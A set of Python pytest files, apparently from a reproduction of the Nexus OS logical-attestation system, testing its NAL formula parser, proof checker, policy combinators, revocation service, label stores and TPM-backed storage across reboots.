        chain = producer.externalize_label(label)

        owner = consumer.create_process("owner")
        client = consumer.create_process("client")
        imported = consumer.import_label_chain(chain, client.pid)
        resource = consumer.resources.create("/obj/gated", "file",
                                             owner.principal)
        consumer.sys_setgoal(owner.pid, resource.resource_id, "run",
                             f"{imported.speaker} says vetted(app-blob)")
        wallet = CredentialSet([imported])
        bundle = wallet.bundle_for(imported.formula)
        assert consumer.authorize(client.pid, "run", resource.resource_id,
                                  bundle).allow


class TestRebootPersistence:
    """The full §3.3/§3.4 story: state survives honest reboots, dies on
    dishonest ones."""

    STACK = SoftwareStack(firmware=b"fw", bootloader=b"bl",
                          kernel_image=b"nexus")

    def test_ssr_survives_reboot_and_replay_fails_after(self):
        from repro.storage import Disk
        machine = Machine(tpm=TPM(seed=88))
        disk = Disk()
        ctx = boot_nexus(machine, self.STACK, seed=89)
        vdirs = VDIRRegistry(disk, machine.tpm)
        vdirs.format()
        ssr = SecureStorageRegion("persistent", disk, vdirs, size_blocks=2,
                                  block_size=64)
        ssr.create()
        ssr.write(0, b"pre-reboot data")
        vdir_id = ssr.vdir_id

        # Honest reboot of the same software stack.
        boot_nexus(machine, self.STACK, nk_blob=ctx.nk_blob)
        recovered = VDIRRegistry.recover(disk, machine.tpm)
        reopened = SecureStorageRegion("persistent", disk, recovered,
                                       size_blocks=2, block_size=64)
        reopened.open(vdir_id)
        assert reopened.read(0, 15) == b"pre-reboot data"

    def test_trojaned_kernel_cannot_reach_state(self):
        machine = Machine(tpm=TPM(seed=88))
        from repro.storage import Disk
        disk = Disk()
        ctx = boot_nexus(machine, self.STACK, seed=89)
        vdirs = VDIRRegistry(disk, machine.tpm)
        vdirs.format()

        evil = SoftwareStack(firmware=b"fw", bootloader=b"bl",
                             kernel_image=b"nexus-TROJANED")
        with pytest.raises(BootError):
            boot_nexus(machine, evil, nk_blob=ctx.nk_blob)
        # Even DIR access (and hence VDIR recovery) is gone: the PCR
        # policy no longer matches.
        from repro.errors import TPMError
        with pytest.raises(TPMError):
            VDIRRegistry.recover(disk, machine.tpm)


class TestCombinedPolicies:
    """A goal combining all three bases for trust at once."""

    def test_analysis_plus_authority_plus_label(self):
        kernel = NexusKernel()
        fs_server = FileServer(kernel)
        analyzer = IPCConnectivityAnalyzer(kernel)
        clock = {"now": 100}
        kernel.register_authority("ntp", ClockAuthority(lambda: clock["now"]))

        owner = kernel.create_process("owner")
        player = kernel.create_process("player")
        resource = kernel.resources.create("/content/video", "stream",
                                           owner.principal)
        goal = (f"{analyzer.process.path} says "
                f"not hasPath(?Subject, fs-server)"
                f" and {owner.path} says TimeNow < 200")
        kernel.sys_setgoal(owner.pid, resource.resource_id, "stream", goal)

        isolation = analyzer.certify_no_path(player.pid, "fs-server")
        delegation = kernel.sys_say(
            owner.pid, f"NTP speaksfor {owner.path} on TimeNow").formula
        ntp_claim = parse("NTP says TimeNow < 200")
        concrete = parse(
            f"{analyzer.process.path} says "
            f"not hasPath({player.path}, fs-server)"
            f" and {owner.path} says TimeNow < 200")
        prover = Prover([isolation, delegation],
                        authorities={ntp_claim: "ntp"})
        bundle = ProofBundle(prover.prove(concrete),
                             credentials=(isolation, delegation))

        assert kernel.authorize(player.pid, "stream", resource.resource_id,
                                bundle).allow
        clock["now"] = 300
        assert not kernel.authorize(player.pid, "stream",
                                    resource.resource_id, bundle).allow

    def test_revocation_via_authority(self):
        """The §2.7 pattern: A says (Valid(S) implies S); a third party
        runs the revocation authority."""
        kernel = NexusKernel()
        revocation = StatementSetAuthority()
        kernel.register_authority("revocation", revocation)
        issuer = kernel.create_process("issuer")
        client = kernel.create_process("client")
        owner = kernel.create_process("owner")
        resource = kernel.resources.create("/obj/svc", "service",
                                           owner.principal)

        kernel.sys_setgoal(owner.pid, resource.resource_id, "use",
                           f"{issuer.path} says S")
        conditional = kernel.sys_say(
            issuer.pid, "Valid(S) implies S").formula
        valid_claim = parse(f"{issuer.path} says Valid(S)")
        revocation.assert_statement(valid_claim)

        goal = parse(f"{issuer.path} says S")
        prover = Prover([conditional],
                        authorities={valid_claim: "revocation"})
        bundle = ProofBundle(prover.prove(goal), credentials=(conditional,))
        assert kernel.authorize(client.pid, "use", resource.resource_id,
                                bundle).allow
        # Revoke: retract the statement; the same credentials now fail.
        revocation.retract_statement(valid_claim)
        assert not kernel.authorize(client.pid, "use", resource.resource_id,
                                    bundle).allow


class TestFauxbookOverAttestedStorage:
    def test_full_pipeline_with_encrypted_storage_and_monitors(self):
        stack = FauxbookStack(access_control="static", ref_monitor="kernel",
                              storage="decrypt")
        stack.put_file("/home.html", b"<h1>welcome</h1>")
        response = stack.request("GET", "/static/home.html")
        assert response.status == 200
        assert response.body == b"<h1>welcome</h1>"
        # And the social flow still works on the same deployment.
        stack.request("POST", "/signup", body=b"u:p")
        token = stack.request("POST", "/login", body=b"u:p").body.decode()
        stack.request("POST", "/status", headers={"X-Session": token},
                      body=b"hi")
        page = stack.request("GET", "/wall/u", headers={"X-Session": token})
        assert b"hi" in page.body


class TestProofChangeSemantics:
    def test_presenting_different_proof_invalidates_cached_deny(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/obj/x", "file", owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        # First attempt without proof: denied, and the denial is cached.
        assert not kernel.authorize(client.pid, "read",
                                    resource.resource_id).allow
        assert not kernel.authorize(client.pid, "read",
                                    resource.resource_id).allow
        # Now present a valid proof: the cached deny must not stick.
        cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
        from repro.nal.proof import Assume
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        assert kernel.authorize(client.pid, "read", resource.resource_id,
                                bundle).allow

    def test_equal_proof_objects_share_cache_entries(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/obj/y", "file", owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says ok(?Subject)")
        cred = kernel.sys_say(owner.pid, f"ok({client.path})").formula
        from repro.nal.proof import Assume

        def fresh_bundle():
            return ProofBundle(Assume(cred), credentials=(cred,))

        kernel.authorize(client.pid, "read", resource.resource_id,
                         fresh_bundle())
        upcalls = kernel.default_guard.upcalls
        for _ in range(5):
            decision = kernel.authorize(client.pid, "read",
                                        resource.resource_id, fresh_bundle())
            assert decision.allow
        assert kernel.default_guard.upcalls == upcalls  # all cache hits
