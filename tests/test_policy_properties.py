"""Property tests for the policy combinators: threshold semantics."""

import itertools

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import ProofError
from repro.nal import check, parse, prove
from repro.nal.policy import all_of, any_of, k_of, says, vouched_by

_SERVICES = ("S1", "S2", "S3", "S4")


@given(st.integers(1, 4), st.sets(st.sampled_from(_SERVICES), max_size=4))
@settings(max_examples=100, deadline=None)
def test_k_of_threshold_semantics(k, holders):
    """`k_of(k, conditions)` is provable exactly when ≥k conditions hold."""
    goal = vouched_by(k, _SERVICES, "vetted(u)")
    credentials = [says(s, "vetted(u)") for s in sorted(holders)]
    if len(holders) >= k:
        proof = prove(goal, credentials)
        result = check(proof, goal)
        assert set(result.assumptions) <= set(credentials)
    else:
        with pytest.raises(ProofError):
            prove(goal, credentials)


@given(st.sets(st.sampled_from(_SERVICES), min_size=1, max_size=4))
@settings(max_examples=40, deadline=None)
def test_any_of_needs_exactly_one(holders):
    goal = any_of(*[f"{s} says ok" for s in _SERVICES])
    credentials = [parse(f"{s} says ok") for s in sorted(holders)]
    proof = prove(goal, credentials)
    result = check(proof, goal)
    # A disjunction proof rests on exactly one granted branch.
    assert len(set(result.assumptions)) == 1


@given(st.sets(st.sampled_from(_SERVICES), max_size=3))
@settings(max_examples=40, deadline=None)
def test_all_of_needs_every_one(holders):
    goal = all_of(*[f"{s} says ok" for s in _SERVICES])
    credentials = [parse(f"{s} says ok") for s in sorted(holders)]
    if holders == set(_SERVICES):
        prove(goal, credentials)
    else:
        with pytest.raises(ProofError):
            prove(goal, credentials)


def test_k_of_expansion_size():
    """The DNF expansion is C(n, k) alternatives — document the cost."""
    from repro.nal import Or
    goal = k_of(2, [f"p{i}" for i in range(4)])
    alternatives = 1
    stack = [goal]
    while stack:
        node = stack.pop()
        if isinstance(node, Or):
            alternatives += 1
            stack.extend([node.left, node.right])
    assert alternatives == len(list(itertools.combinations(range(4), 2)))
