"""Parser tests, including paper examples and hypothesis round-trips."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import ParseError
from repro.nal import (
    And,
    Compare,
    Const,
    FALSE,
    Implies,
    KeyPrincipal,
    Name,
    Not,
    Or,
    Pred,
    Says,
    Speaksfor,
    TRUE,
    Var,
    parse,
    parse_principal,
    principal,
)


class TestParseBasics:
    def test_atom(self):
        assert parse("p") == Pred("p")

    def test_true_false(self):
        assert parse("true") == TRUE
        assert parse("false") == FALSE

    def test_predicate_with_args(self):
        assert parse('isTypeSafe(PGM)') == Pred("isTypeSafe", (Name("PGM"),))

    def test_predicate_mixed_args(self):
        f = parse('hasPath(/proc/ipd/12, "fs", 3)')
        assert f == Pred("hasPath",
                         (Name("/proc/ipd/12"), Const("fs"), Const(3)))

    def test_zero_arg_predicate(self):
        assert parse("ready()") == Pred("ready", ())

    def test_says(self):
        f = parse("TypeChecker says isTypeSafe(PGM)")
        assert f == Says(Name("TypeChecker"), Pred("isTypeSafe", (Name("PGM"),)))

    def test_says_nests_right(self):
        f = parse("A says B says p")
        assert f == Says(Name("A"), Says(Name("B"), Pred("p")))

    def test_says_binds_tighter_than_and(self):
        f = parse("A says p and B says q")
        assert f == And(Says(Name("A"), Pred("p")), Says(Name("B"), Pred("q")))

    def test_says_body_includes_comparison(self):
        f = parse("NTP says TimeNow < 20110319")
        assert f == Says(Name("NTP"),
                         Compare("<", Name("TimeNow"), Const(20110319)))

    def test_speaksfor(self):
        f = parse("A speaksfor B")
        assert f == Speaksfor(Name("A"), Name("B"))

    def test_speaksfor_on(self):
        f = parse("NTP speaksfor Server on TimeNow")
        assert f == Speaksfor(Name("NTP"), Name("Server"), Name("TimeNow"))

    def test_subprincipal_chain(self):
        f = parse("HW.kernel.process23 says p")
        assert f == Says(principal("HW.kernel.process23"), Pred("p"))

    def test_key_principal(self):
        f = parse("key:ab12 says p")
        assert f == Says(KeyPrincipal("ab12"), Pred("p"))

    def test_variable_speaker(self):
        f = parse("?X says openFile(f)")
        assert f == Says(Var("X"), Pred("openFile", (Name("f"),)))

    def test_in_sugar(self):
        f = parse("alice in bob.friends")
        assert f == Pred("in", (Name("alice"), principal("bob.friends")))

    def test_in_sugar_roundtrips_through_printer(self):
        # str() renders the sugar as in(a, b); that spelling must parse
        # back even though `in` is a keyword elsewhere in the grammar.
        f = parse("alice in accountants")
        assert parse(str(f)) == f
        assert parse("in(alice, accountants)") == f

    def test_equals_is_sugar_for_eq(self):
        f = parse("user = alice")
        assert f == Compare("==", Name("user"), Name("alice"))

    def test_not(self):
        f = parse("not hasPath(a, b)")
        assert f == Not(Pred("hasPath", (Name("a"), Name("b"))))

    def test_bang_not(self):
        assert parse("!p") == Not(Pred("p"))

    def test_connective_precedence(self):
        f = parse("p and q or r implies s")
        assert f == Implies(Or(And(Pred("p"), Pred("q")), Pred("r")), Pred("s"))

    def test_implies_right_assoc(self):
        f = parse("p implies q implies r")
        assert f == Implies(Pred("p"), Implies(Pred("q"), Pred("r")))

    def test_arrow_and_ascii_connectives(self):
        assert parse("p -> q") == Implies(Pred("p"), Pred("q"))
        assert parse(r"p /\ q") == And(Pred("p"), Pred("q"))
        assert parse(r"p \/ q") == Or(Pred("p"), Pred("q"))

    def test_parens_override(self):
        f = parse("p and (q or r)")
        assert f == And(Pred("p"), Or(Pred("q"), Pred("r")))

    def test_parse_idempotent_on_formula(self):
        f = parse("p and q")
        assert parse(f) is f

    def test_parse_principal(self):
        assert parse_principal("kernel.proc") == principal("kernel.proc")
        p = Name("A")
        assert parse_principal(p) is p


class TestPaperExamples:
    """The labels and goals that appear verbatim in the paper."""

    def test_company_certifies_client(self):
        f = parse("Company says isTrustworthy(Client)"
                  " and Nexus says /proc/ipd/12 speaksfor Client")
        assert isinstance(f, And)
        assert f.left == Says(Name("Company"),
                              Pred("isTrustworthy", (Name("Client"),)))
        assert f.right == Says(Name("Nexus"),
                               Speaksfor(Name("/proc/ipd/12"), Name("Client")))

    def test_ipc_analyzer_labels(self):
        f = parse("/proc/ipd/30 says not hasPath(/proc/ipd/12, Filesystem)")
        assert f == Says(
            Name("/proc/ipd/30"),
            Not(Pred("hasPath", (Name("/proc/ipd/12"), Name("Filesystem")))))

    def test_time_goal(self):
        f = parse("Owner says TimeNow < 20110319"
                  " and ?X says openFile(filename)"
                  " and SafetyCertifier says safe(?X)")
        parts = list(__import__("repro.nal", fromlist=["conjuncts"])
                     .conjuncts(f))
        assert len(parts) == 3
        assert parts[1] == Says(Var("X"), Pred("openFile", (Name("filename"),)))

    def test_ntp_delegation(self):
        f = parse("Filesystem says NTP speaksfor Filesystem on TimeNow")
        assert f == Says(
            Name("Filesystem"),
            Speaksfor(Name("NTP"), Name("Filesystem"), Name("TimeNow")))

    def test_default_ownership_label(self):
        f = parse("FS says /proc/ipd/6 speaksfor FS./dir/file")
        assert isinstance(f, Says)
        assert isinstance(f.body, Speaksfor)
        assert str(f.body.right) == "FS./dir/file"

    def test_revocation_pattern(self):
        f = parse("A says (Valid(S) implies S)")
        assert f == Says(Name("A"),
                         Implies(Pred("Valid", (Name("S"),)), Pred("S")))


class TestParseErrors:
    @pytest.mark.parametrize("text", [
        "", "says p", "p and", "(p", "p)", "A speaksfor", "A says",
        "not", "p @ q", "1 says p", '"s" speaksfor B', "?X(", "p(,)",
        "A speaksfor B on", "p q",
    ])
    def test_rejects_garbage(self, text):
        with pytest.raises(ParseError):
            parse(text)

    def test_keyword_as_term_rejected(self):
        with pytest.raises(ParseError):
            parse("p(says)")

    def test_error_carries_position(self):
        with pytest.raises(ParseError) as excinfo:
            parse("p @ q")
        assert excinfo.value.position == 2


# ---------------------------------------------------------------------------
# Hypothesis: parse/print round trip over random formula trees
# ---------------------------------------------------------------------------

_names = st.sampled_from(["A", "B", "NTP", "Filesystem", "/proc/ipd/12",
                          "Owner", "kernel"])
_principals = st.recursive(
    _names.map(Name) | st.sampled_from(["ab12", "ff00"]).map(KeyPrincipal),
    lambda inner: st.tuples(
        inner, st.sampled_from(["t", "port", "proc9"])).map(
            lambda pair: pair[0].sub(pair[1])
            if hasattr(pair[0], "sub") else pair[0]),
    max_leaves=3)
_terms = (_principals
          | st.integers(min_value=-99, max_value=10**6).map(Const)
          | st.sampled_from(["hello", "f.txt"]).map(Const)
          | st.sampled_from(["X", "Y"]).map(Var))
_atoms = (
    st.tuples(st.sampled_from(["p", "q", "hasPath", "safe"]),
              st.lists(_terms, max_size=3)).map(
        lambda pair: Pred(pair[0], tuple(pair[1])))
    | st.tuples(st.sampled_from(["<", "<=", ">", ">=", "==", "!="]),
                _terms, _terms).map(lambda t: Compare(*t))
    | st.just(TRUE) | st.just(FALSE))


def _extend(children):
    return (
        st.tuples(children, children).map(lambda p: And(*p))
        | st.tuples(children, children).map(lambda p: Or(*p))
        | st.tuples(children, children).map(lambda p: Implies(*p))
        | children.map(Not)
        | st.tuples(_principals, children).map(lambda p: Says(*p))
        | st.tuples(_principals, _principals).map(lambda p: Speaksfor(*p))
        | st.tuples(_principals, _principals, _terms).map(
            lambda p: Speaksfor(p[0], p[1], p[2]))
    )


_formulas = st.recursive(_atoms, _extend, max_leaves=8)


@given(_formulas)
@settings(max_examples=300, deadline=None)
def test_parse_print_roundtrip(formula):
    assert parse(str(formula)) == formula


@given(_formulas)
@settings(max_examples=100, deadline=None)
def test_printing_is_stable(formula):
    assert str(parse(str(formula))) == str(formula)
