"""Tests for the policy combinators and the revocation service."""

import pytest

from repro.core.revocation import RevocationService
from repro.errors import NALError, NoSuchResource, ProofError
from repro.kernel import NexusKernel
from repro.nal import Assume, Says, check, parse, prove
from repro.nal.policy import (
    all_of,
    any_of,
    before,
    delegation_preamble,
    k_of,
    revocable,
    says,
    speaks_for,
    validity_claim,
    vouched_by,
)


class TestCombinators:
    def test_says_avoids_precedence_traps(self):
        built = says("A", "p implies q")
        # The textual form would have parsed as (A says p) implies q.
        assert built == parse("A says (p implies q)")
        assert parse("A says p implies q") != built

    def test_speaks_for_with_scope(self):
        assert speaks_for("NTP", "Server", on="TimeNow") == \
            parse("NTP speaksfor Server on TimeNow")

    def test_delegation_preamble(self):
        preamble = delegation_preamble("FS", ["NTP", "Clock"], on="TimeNow")
        assert preamble[0] == parse(
            "FS says (NTP speaksfor FS on TimeNow)")
        assert len(preamble) == 2

    def test_all_of_and_any_of(self):
        assert all_of("p", "q", "r") == parse("p and q and r")
        assert any_of("p", "q", "r") == parse("p or q or r")

    def test_any_of_requires_options(self):
        with pytest.raises(NALError):
            any_of()

    def test_k_of_bounds(self):
        with pytest.raises(NALError):
            k_of(0, ["p"])
        with pytest.raises(NALError):
            k_of(3, ["p", "q"])

    def test_k_of_1_is_any(self):
        assert k_of(1, ["p", "q"]) == any_of("p", "q")

    def test_k_of_n_is_all(self):
        assert k_of(2, ["p", "q"]) == all_of("p", "q")

    def test_two_of_three_provable_with_any_pair(self):
        goal = vouched_by(2, ["Pw", "Retina", "Dongle"], "vetted(u)")
        for pair in (["Pw", "Retina"], ["Pw", "Dongle"],
                     ["Retina", "Dongle"]):
            creds = [says(svc, "vetted(u)") for svc in pair]
            proof = prove(goal, creds)
            check(proof, goal)
        with pytest.raises(ProofError):
            prove(goal, [says("Pw", "vetted(u)")])  # one is not enough

    def test_before_builds_dynamic_goal(self):
        goal = before("Owner", 20110319)
        assert goal == parse("Owner says TimeNow < 20110319")
        proof = prove(goal, [goal])
        assert not check(proof).cacheable  # TimeNow is dynamic


class TestRevocationService:
    def _world(self):
        kernel = NexusKernel()
        service = RevocationService(kernel)
        issuer = kernel.create_process("issuer")
        return kernel, service, issuer

    def _provable(self, kernel, issuer, wallet, statement="S"):
        goal = Says(issuer.principal, parse(statement))
        bundle = wallet.try_bundle_for(goal)
        if bundle is None:
            return False
        result = check(bundle.proof, goal)
        for port, formula in result.authority_queries:
            if not kernel.authorities.query(port, formula):
                return False
        return True

    def test_issued_credential_discharges_goal(self):
        kernel, service, issuer = self._world()
        wallet = service.issue(issuer, "S")
        assert self._provable(kernel, issuer, wallet)

    def test_revocation_takes_effect_immediately(self):
        kernel, service, issuer = self._world()
        wallet = service.issue(issuer, "S")
        service.revoke(issuer, "S")
        assert not self._provable(kernel, issuer, wallet)

    def test_reinstatement(self):
        kernel, service, issuer = self._world()
        wallet = service.issue(issuer, "S")
        service.revoke(issuer, "S")
        service.reinstate(issuer, "S")
        assert self._provable(kernel, issuer, wallet)

    def test_is_valid_tracks_state(self):
        kernel, service, issuer = self._world()
        service.issue(issuer, "S")
        assert service.is_valid(issuer, "S")
        service.revoke(issuer, "S")
        assert not service.is_valid(issuer, "S")

    def test_unknown_statement_rejected(self):
        kernel, service, issuer = self._world()
        with pytest.raises(NoSuchResource):
            service.revoke(issuer, "never-issued")

    def test_conditional_label_is_in_store(self):
        kernel, service, issuer = self._world()
        service.issue(issuer, "S")
        expected = revocable(issuer.principal, "S")
        assert kernel.labels.holds(expected)

    def test_validity_claim_not_transferable(self):
        """The validity answer never appears as a label: it exists only
        as an authority response (§2.7's whole point)."""
        kernel, service, issuer = self._world()
        service.issue(issuer, "S")
        claim = validity_claim(issuer.principal, "S")
        assert not kernel.labels.holds(claim)

    def test_independent_statements_revoke_independently(self):
        kernel, service, issuer = self._world()
        wallet_a = service.issue(issuer, "A")
        wallet_b = service.issue(issuer, "B")
        service.revoke(issuer, "A")
        assert not self._provable(kernel, issuer, wallet_a, "A")
        assert self._provable(kernel, issuer, wallet_b, "B")

    def test_end_to_end_with_guarded_resource(self):
        kernel, service, issuer = self._world()
        client = kernel.create_process("client")
        owner = kernel.create_process("owner")
        resource = kernel.resources.create("/svc/api", "service",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "use",
                           f"{issuer.path} says S")
        wallet = service.issue(issuer, "S")
        bundle = wallet.bundle_for(parse(f"{issuer.path} says S"))
        assert kernel.authorize(client.pid, "use", resource.resource_id,
                                bundle).allow
        service.revoke(issuer, "S")
        assert not kernel.authorize(client.pid, "use", resource.resource_id,
                                    bundle).allow
