"""Edge-case coverage: checker corners, labelstore mechanics, resource
variables in goals, introspection namespace operations."""

import pytest

from repro.errors import (
    AccessDenied,
    NoSuchResource,
    ParseError,
    ProofError,
    UnificationError,
)
from repro.kernel import NexusKernel
from repro.kernel.guard import RESOURCE_VAR, SUBJECT_VAR
from repro.nal import (
    And,
    Assume,
    Axiom,
    Compare,
    Const,
    FALSE,
    Implies,
    Name,
    Not,
    Or,
    Pred,
    ProofBundle,
    Rule,
    Says,
    Speaksfor,
    TRUE,
    Var,
    check,
    match,
    matches,
    parse,
)

A, B = Name("A"), Name("B")
p, q = Pred("p"), Pred("q")


class TestCheckerCorners:
    def test_or_intro_conclusion_must_be_or(self):
        with pytest.raises(ProofError):
            check(Rule("or_intro_l", (Assume(p),), p))

    def test_and_elim_needs_and_premise(self):
        with pytest.raises(ProofError):
            check(Rule("and_elim_l", (Assume(p),), p))

    def test_imp_elim_premise_order_enforced(self):
        # (implication, antecedent) instead of (antecedent, implication)
        with pytest.raises(ProofError):
            check(Rule("imp_elim", (Assume(Implies(p, q)), Assume(p)), q))

    def test_dneg_intro_wrong_shape(self):
        with pytest.raises(ProofError):
            check(Rule("dneg_intro", (Assume(p),), Not(p)))

    def test_handoff_scoped_delegation(self):
        scoped = Speaksfor(A, B, Name("TimeNow"))
        proof = Rule("handoff", (Assume(Says(B, scoped)),), scoped)
        check(proof, scoped)

    def test_speaksfor_trans_rejects_scoped(self):
        with pytest.raises(ProofError):
            check(Rule("speaksfor_trans",
                       (Assume(Speaksfor(A, B, Name("T"))),
                        Assume(Speaksfor(B, Name("C")))),
                       Speaksfor(A, Name("C"))))

    def test_or_elim_inside_says_context(self):
        disj = Or(p, q)
        concl = Says(A, p)
        proof = Rule("or_elim",
                     (Assume(Says(A, disj)),
                      Assume(Says(A, Implies(p, p))),
                      Assume(Says(A, Implies(q, p)))),
                     concl, context=A)
        check(proof, concl)

    def test_empty_premise_rule_rejected(self):
        with pytest.raises(ProofError):
            check(Rule("and_intro", (), And(p, q)))

    def test_rule_count_reported(self):
        proof = Rule("and_intro", (Assume(p), Assume(q)), And(p, q))
        assert check(proof).rule_count == 1
        assert proof.size() == 1

    def test_axiom_true_only_exact(self):
        check(Axiom(TRUE))
        with pytest.raises(ProofError):
            check(Axiom(FALSE))


class TestUnification:
    def test_match_binds_consistently(self):
        pattern = parse("?X says p(?Y) and ?X says q(?Y)")
        subject = parse("A says p(1) and A says q(1)")
        bindings = match(pattern, subject)
        assert bindings[Var("X")] == A
        assert bindings[Var("Y")] == Const(1)

    def test_match_rejects_inconsistent_bindings(self):
        pattern = parse("?X says p and ?X says q")
        subject = parse("A says p and B says q")
        with pytest.raises(UnificationError):
            match(pattern, subject)

    def test_match_subprincipal_structure(self):
        pattern = parse("?X.port says p")
        subject = parse("kernel.port says p")
        assert match(pattern, subject)[Var("X")] == Name("kernel")

    def test_matches_boolean(self):
        assert matches(parse("?X says p"), parse("A says p"))
        assert not matches(parse("?X says p"), parse("A says q"))

    def test_scope_arity_mismatch(self):
        with pytest.raises(UnificationError):
            match(parse("?X speaksfor B"), parse("A speaksfor B on T"))


class TestResourceVariableGoals:
    def test_goal_with_resource_var(self):
        """Goals may quantify over the resource name: the guard binds
        ?Resource to the object being accessed."""
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/docs/a", "file",
                                           owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says mayRead(?Subject, ?Resource)")
        cred = kernel.sys_say(
            owner.pid, f"mayRead({client.path}, /docs/a)").formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        assert kernel.authorize(client.pid, "read", resource.resource_id,
                                bundle).allow

    def test_wrong_resource_credential_rejected(self):
        kernel = NexusKernel()
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        res_a = kernel.resources.create("/docs/a", "file", owner.principal)
        res_b = kernel.resources.create("/docs/b", "file", owner.principal)
        goal = f"{owner.path} says mayRead(?Subject, ?Resource)"
        kernel.sys_setgoal(owner.pid, res_a.resource_id, "read", goal)
        kernel.sys_setgoal(owner.pid, res_b.resource_id, "read", goal)
        cred = kernel.sys_say(
            owner.pid, f"mayRead({client.path}, /docs/a)").formula
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        assert kernel.authorize(client.pid, "read", res_a.resource_id,
                                bundle).allow
        assert not kernel.authorize(client.pid, "read", res_b.resource_id,
                                    bundle).allow


class TestLabelstoreMechanics:
    def test_handles_are_per_store(self):
        kernel = NexusKernel()
        proc = kernel.create_process("p")
        first = kernel.sys_say(proc.pid, "a")
        second = kernel.sys_say(proc.pid, "b")
        assert first.handle != second.handle

    def test_get_and_delete_by_handle(self):
        kernel = NexusKernel()
        proc = kernel.create_process("p")
        label = kernel.sys_say(proc.pid, "a")
        store = kernel.default_labelstore(proc.pid)
        assert store.get(label.handle) == label
        store.delete(label.handle)
        with pytest.raises(NoSuchResource):
            store.get(label.handle)

    def test_iteration_ordered_by_handle(self):
        kernel = NexusKernel()
        proc = kernel.create_process("p")
        for text in ("a", "b", "c"):
            kernel.sys_say(proc.pid, text)
        store = kernel.default_labelstore(proc.pid)
        handles = [label.handle for label in store]
        assert handles == sorted(handles)
        assert len(store) == 3

    def test_secondary_store(self):
        kernel = NexusKernel()
        proc = kernel.create_process("p")
        extra = kernel.labels.create_store(proc.pid)
        label = kernel.sys_say(proc.pid, "x", store_id=extra.store_id)
        assert extra.find(label.formula) is not None
        assert kernel.default_labelstore(proc.pid).find(label.formula) is None

    def test_stores_owned_by(self):
        kernel = NexusKernel()
        proc = kernel.create_process("p")
        kernel.labels.create_store(proc.pid)
        assert len(kernel.labels.stores_owned_by(proc.pid)) == 2


class TestIntrospectionNamespace:
    def test_listdir_and_walk(self):
        kernel = NexusKernel()
        proc = kernel.create_process("svc")
        children = kernel.introspection.listdir(proc.path)
        assert "name" in children and "hash" in children
        walked = kernel.introspection.walk(proc.path)
        assert f"{proc.path}/name" in walked

    def test_relative_path_rejected(self):
        kernel = NexusKernel()
        with pytest.raises(ValueError):
            kernel.introspection.publish("relative/path", "x")

    def test_unpublish(self):
        kernel = NexusKernel()
        kernel.introspection.publish("/tmp/node", "v")
        kernel.introspection.unpublish("/tmp/node")
        with pytest.raises(NoSuchResource):
            kernel.introspection.read("/tmp/node")

    def test_callable_nodes_are_live(self):
        kernel = NexusKernel()
        state = {"v": "1"}
        kernel.introspection.publish("/live/node", lambda: state["v"])
        assert kernel.introspection.read("/live/node") == "1"
        state["v"] = "2"
        assert kernel.introspection.read("/live/node") == "2"


class TestResourceTable:
    def test_lookup_and_find(self):
        kernel = NexusKernel()
        owner = kernel.create_process("o")
        resource = kernel.resources.create("/r/x", "file", owner.principal)
        assert kernel.resources.lookup("/r/x") is resource
        assert kernel.resources.find("/missing") is None
        with pytest.raises(NoSuchResource):
            kernel.resources.lookup("/missing")

    def test_destroy_removes_name(self):
        kernel = NexusKernel()
        owner = kernel.create_process("o")
        resource = kernel.resources.create("/r/y", "file", owner.principal)
        kernel.resources.destroy(resource.resource_id)
        assert kernel.resources.find("/r/y") is None

    def test_ownership_transfer_changes_default_policy(self):
        kernel = NexusKernel()
        alice = kernel.create_process("alice")
        bob = kernel.create_process("bob")
        resource = kernel.resources.create("/r/z", "file", alice.principal)
        assert kernel.authorize(alice.pid, "read",
                                resource.resource_id).allow
        kernel.resources.transfer_ownership(resource.resource_id,
                                            bob.principal)
        kernel.decision_cache.clear()
        assert not kernel.authorize(alice.pid, "read",
                                    resource.resource_id).allow
        assert kernel.authorize(bob.pid, "read", resource.resource_id).allow

    def test_owned_by(self):
        kernel = NexusKernel()
        owner = kernel.create_process("o")
        kernel.resources.create("/r/1", "file", owner.principal)
        kernel.resources.create("/r/2", "file", owner.principal)
        owned = kernel.resources.owned_by(owner.principal)
        assert {r.name for r in owned} >= {"/r/1", "/r/2"}


class TestParserCorners:
    @pytest.mark.parametrize("text,expected", [
        ("A.1 says p", "A.1 says p"),
        ("IPC.42 speaksfor /proc/ipd/7", "IPC.42 speaksfor /proc/ipd/7"),
        ('p("quoted string")', 'p("quoted string")'),
        ("x != -5", "x != -5"),
        ("not not p", "not not p"),
    ])
    def test_roundtrip_corners(self, text, expected):
        assert str(parse(text)) == expected

    def test_deeply_nested_parens(self):
        formula = parse("(((((p)))))")
        assert formula == Pred("p")

    def test_long_conjunction(self):
        text = " and ".join(f"p{i}" for i in range(50))
        formula = parse(text)
        from repro.nal import conjuncts
        assert len(list(conjuncts(formula))) == 50
