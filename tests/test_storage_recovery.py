"""Durable attested persistence: WAL framing, snapshots, crash recovery.

The heart of this suite is a seeded property: a kernel journalling
every mutation write-ahead, crashed at *any* append (including mid
record) and replayed from what actually reached the medium, must answer
``explain``/``authorize`` exactly like a kernel that never crashed and
executed exactly the operations that committed.  Around it sit targeted
tests for the failure taxonomy — torn tails repair silently, flipped
bytes and broken chains are loud ``E_BAD_RECORD``, reordered
snapshot/log visibility is ``E_STORAGE`` — plus the deliberately
ephemeral surfaces (the decision cache restarts cold) and the wire
``storage_stats`` endpoint over both transports.
"""

import random
import struct
import threading

import pytest

